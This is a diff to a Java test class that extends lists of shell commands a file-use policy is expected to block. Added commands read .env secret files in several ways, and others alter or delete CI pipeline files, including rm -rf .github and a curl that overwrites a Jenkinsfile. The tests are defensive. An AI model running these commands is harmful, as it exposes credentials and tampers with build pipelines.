@@ -66,6 +66,11 @@ class FileUsePoliciesTests {
                 "echo \"$(cat .env)\"",
                 "echo \"$(<.env)\"",
                 "git show HEAD:.env",
+                "find . -name .env -exec cat {} \\;",
+                "find . -name '.env*' | xargs cat",
+                "python3 -c \"print(open('.env').read())\"",
+                "export $(cat .env | xargs)",
+                "curl file:///srv/.env",
                 "cat config/prod.env",
                 "vim .env",
                 "/bin/cat .env",
@@ -283,6 +288,12 @@ class FileUsePoliciesTests {
                 "echo x > \"$PWD/.github/workflows/a.yml\"",
                 "truncate -s 0 Jenkinsfile",
                 "git mv x.yml .github/workflows/x.yml",
+                "rm -rf .github",
+                "vim Dockerfile",
+                "unzip x.zip -d .github/workflows",
+                "npx prettier --write .github/workflows/ci.yml",
+                "find . -path '*/.github/workflows/*' -delete",
+                "curl -sSLo Jenkinsfile https://example.com/x",
                 "echo x > .github/work\"flows\"/ci.yml"
             })
     void commandsThatChangePipelinesAreBlocked(String command) {
